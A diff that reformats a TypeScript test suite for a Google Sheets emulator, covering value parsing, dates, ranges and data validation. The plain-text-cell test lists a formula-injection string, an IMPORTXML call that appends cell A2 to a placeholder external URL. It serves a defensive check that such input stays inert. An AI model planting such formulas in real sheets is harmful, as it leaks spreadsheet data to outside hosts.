@@ -31,10 +31,12 @@ describe('a new spreadsheet', () => {
     expect(sheet.getMaxRows()).toBe(884_615);
   });
 
-  it('refuses a second sheet of the same name (ignoring case) with Google\'s message', () => {
+  it("refuses a second sheet of the same name (ignoring case) with Google's message", () => {
     const { emu } = setup();
     emu.spreadsheet.insertSheet('Episode');
-    expect(() => emu.spreadsheet.insertSheet('episode')).toThrow('A sheet with the name "episode" already exists. Please enter another name.');
+    expect(() => emu.spreadsheet.insertSheet('episode')).toThrow(
+      'A sheet with the name "episode" already exists. Please enter another name.',
+    );
     expect(emu.spreadsheet.insertSheet('Tamu', 0).getIndex()).toBe(1);
     expect(emu.spreadsheet.getActiveSheet().getName()).toBe('Tamu');
   });
@@ -65,20 +67,41 @@ describe('values written by a script are read as if typed', () => {
 
   it('keeps every string verbatim in a plain-text (@) cell', () => {
     const { sheet } = setup();
-    const risky = ['=IMPORTXML("https://x.example/?"&A2,"//a")', '+62812', '0812', '-1+2', '@user', '\tTAB', "'quoted", 'TRUE', '2026-11-28'];
+    const risky = [
+      '=IMPORTXML("https://x.example/?"&A2,"//a")',
+      '+62812',
+      '0812',
+      '-1+2',
+      '@user',
+      '\tTAB',
+      "'quoted",
+      'TRUE',
+      '2026-11-28',
+    ];
     const range = sheet.getRange(1, 1, risky.length, 1).setNumberFormat('@');
     range.setValues(risky.map((v) => [v]));
     expect(range.getValues()).toEqual(risky.map((v) => [v]));
-    expect(range.getFormulas().flat().every((f) => f === '')).toBe(true);
+    expect(
+      range
+        .getFormulas()
+        .flat()
+        .every((f) => f === ''),
+    ).toBe(true);
   });
 
   it('does not evaluate formulas: reading one fails loudly, getFormulas shows it', () => {
     const { emu, sheet } = setup();
     sheet.getRange('C3').setValue('=HYPERLINK("x")');
-    expect(() => sheet.getDataRange().getValues()).toThrow('Emulator: formula evaluation (Sheet1!C3 holds =HYPERLINK("x")) is not implemented');
+    expect(() => sheet.getDataRange().getValues()).toThrow(
+      'Emulator: formula evaluation (Sheet1!C3 holds =HYPERLINK("x")) is not implemented',
+    );
     expect(sheet.getRange('C3').getFormulas()).toEqual([['=HYPERLINK("x")']]);
     sheet.getRange('A1').setValue(1.5);
-    expect(emu.displayValues('Sheet1')).toEqual([['1.5', '', ''], ['', '', ''], ['', '', { formula: '=HYPERLINK("x")' }]]);
+    expect(emu.displayValues('Sheet1')).toEqual([
+      ['1.5', '', ''],
+      ['', '', ''],
+      ['', '', { formula: '=HYPERLINK("x")' }],
+    ]);
   });
 
   it('refuses strings whose reading it does not model instead of guessing', () => {
@@ -101,8 +124,13 @@ describe('values written by a script are read as if typed', () => {
     expect(typed('id_ID', '05/12/2026')).toBe('2026-12-04T17:00:00.000Z dd/mm/yyyy');
     expect(typed('id_ID', '13/12/2026 08:30')).toBe('2026-12-13T01:30:00.000Z dd/mm/yyyy h:mm');
     expect(typed('id_ID', '12/13/2026')).toBe('12/13/2026');
-    expect([typed('en_US', '1,234.5'), typed('en_US', '1.5'), typed('id_ID', '1,5'), typed('id_ID', '1.234,5'), typed('id_ID', '1.000')])
-      .toEqual([1234.5, 1.5, 1.5, 1234.5, 1000]);
+    expect([
+      typed('en_US', '1,234.5'),
+      typed('en_US', '1.5'),
+      typed('id_ID', '1,5'),
+      typed('id_ID', '1.234,5'),
+      typed('id_ID', '1.000'),
+    ]).toEqual([1234.5, 1.5, 1.5, 1234.5, 1000]);
     expect(() => typed('id_ID', '1.5')).toThrow(/parsing of "1.5" .* is not implemented/);
   });
 
@@ -110,7 +138,9 @@ describe('values written by a script are read as if typed', () => {
     const { sheet } = setup();
     sheet.getRange(1, 1, 1, 3).setValues([[null, undefined, '']]);
     expect(sheet.getLastRow()).toBe(0);
-    expect(() => sheet.getRange('A1').setValue('x'.repeat(50_001))).toThrow('Your input contains more than the maximum of 50000 characters in a single cell.');
+    expect(() => sheet.getRange('A1').setValue('x'.repeat(50_001))).toThrow(
+      'Your input contains more than the maximum of 50000 characters in a single cell.',
+    );
   });
 });
 
@@ -128,7 +158,7 @@ describe('dates', () => {
     expect((cell.getValue() as Date).toISOString()).toBe('2026-11-28T01:30:00.000Z');
   });
 
-  it('stores a Date and displays it with the cell\'s date format in the sheet zone', () => {
+  it("stores a Date and displays it with the cell's date format in the sheet zone", () => {
     const { sheet } = setup();
     const cell = sheet.getRange('A1').setNumberFormat('dd/mm/yyyy hh:mm');
     cell.setValue(new Date('2026-11-28T01:05:00Z'));
@@ -156,12 +186,14 @@ describe('dates', () => {
 });
 
 describe('ranges', () => {
-  it('checks setValues dimensions with Sheets\' messages', () => {
+  it("checks setValues dimensions with Sheets' messages", () => {
     const { sheet } = setup();
-    expect(() => sheet.getRange(1, 1, 2, 2).setValues([[1, 2]]))
-      .toThrow('The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.');
-    expect(() => sheet.getRange(1, 1, 1, 2).setValues([[1, 2, 3]]))
-      .toThrow('The number of columns in the data does not match the number of columns in the range. The data has 3 but the range has 2.');
+    expect(() => sheet.getRange(1, 1, 2, 2).setValues([[1, 2]])).toThrow(
+      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
+    );
+    expect(() => sheet.getRange(1, 1, 1, 2).setValues([[1, 2, 3]])).toThrow(
+      'The number of columns in the data does not match the number of columns in the range. The data has 3 but the range has 2.',
+    );
   });
 
   it('checks coordinates like getRange does', () => {
@@ -188,7 +220,10 @@ describe('ranges', () => {
 
   it('inserts and deletes rows, carrying formats and protections along', () => {
     const { sheet } = setup();
-    sheet.getRange('A2:A3').setNumberFormat('@').setValues([['x'], ['y']]);
+    sheet
+      .getRange('A2:A3')
+      .setNumberFormat('@')
+      .setValues([['x'], ['y']]);
     const p = sheet.getRange('A3').protect();
     sheet.insertRowsAfter(2, 2);
     expect(sheet.getRange('A3').getNumberFormat()).toBe('@');
@@ -206,8 +241,9 @@ describe('what the spreadsheet stores for inspection', () => {
     sheet.getRange('B2').setValue('lainnya');
     const rule = app.newDataValidation().requireValueInList(['koperasi', 'ukm']).setAllowInvalid(false).setHelpText('Pilih').build();
     sheet.getRange('B2:B10').setDataValidation(rule);
-    expect(() => sheet.getRange('B3:B4').setValues([['ukm'], ['Koperasi']]))
-      .toThrow('The data you entered in cell B4 violates the data validation rules set on this cell.');
+    expect(() => sheet.getRange('B3:B4').setValues([['ukm'], ['Koperasi']])).toThrow(
+      'The data you entered in cell B4 violates the data validation rules set on this cell.',
+    );
     expect(sheet.getRange('B3').getValue()).toBe(''); // all or nothing
     sheet.getRange('B3:B4').setValues([['ukm'], ['']]);
     sheet.getRange('B5').setDataValidation(rule.copy().setAllowInvalid(true).build());
@@ -217,9 +253,12 @@ describe('what the spreadsheet stores for inspection', () => {
     expect(read.getCriteriaValues()).toEqual([['koperasi', 'ukm'], true]);
     expect([read.getAllowInvalid(), read.getHelpText()]).toEqual([false, 'Pilih']);
     expect(emu.invalidCells()).toEqual([
-      { sheet: 'Sheet1', a1: 'B2', value: 'lainnya', criteria: 'VALUE_IN_LIST' }, { sheet: 'Sheet1', a1: 'B5', value: 'lainnya', criteria: 'VALUE_IN_LIST' },
+      { sheet: 'Sheet1', a1: 'B2', value: 'lainnya', criteria: 'VALUE_IN_LIST' },
+      { sheet: 'Sheet1', a1: 'B5', value: 'lainnya', criteria: 'VALUE_IN_LIST' },
     ]);
-    expect(() => sheet.getRange('C1').setDataValidation(app.newDataValidation().requireDate() as never)).toThrow(/don't match the method signature/);
+    expect(() => sheet.getRange('C1').setDataValidation(app.newDataValidation().requireDate() as never)).toThrow(
+      /don't match the method signature/,
+    );
   });
 
   it('records frozen rows, notes, formats and styles', () => {
@@ -228,7 +267,10 @@ describe('what the spreadsheet stores for inspection', () => {
     sheet.getRange('A1').setValue('Nama').setFontWeight('bold').setBackground('#eeeeee').setNote('wajib');
     expect(sheet.getFrozenRows()).toBe(1);
     expect(emu.cell('Sheet1', 'A1')).toEqual({ v: 'Nama', note: 'wajib', style: { fontWeight: 'bold', background: '#eeeeee' } });
-    sheet.getRange('A1:B2').setFontWeights([['normal', 'bold'], [null, 'bold']]);
+    sheet.getRange('A1:B2').setFontWeights([
+      ['normal', 'bold'],
+      [null, 'bold'],
+    ]);
     expect(['A1', 'B1', 'A2', 'B2'].map((a1) => sheet.getRange(a1).getFontWeight())).toEqual(['normal', 'bold', 'normal', 'bold']);
     expect(() => sheet.getRange('A1:B2').setFontWeights([['bold']])).toThrow();
     expect(() => sheet.getRange('A1').setFontWeights([['heavy' as 'bold']])).toThrow('Invalid argument');
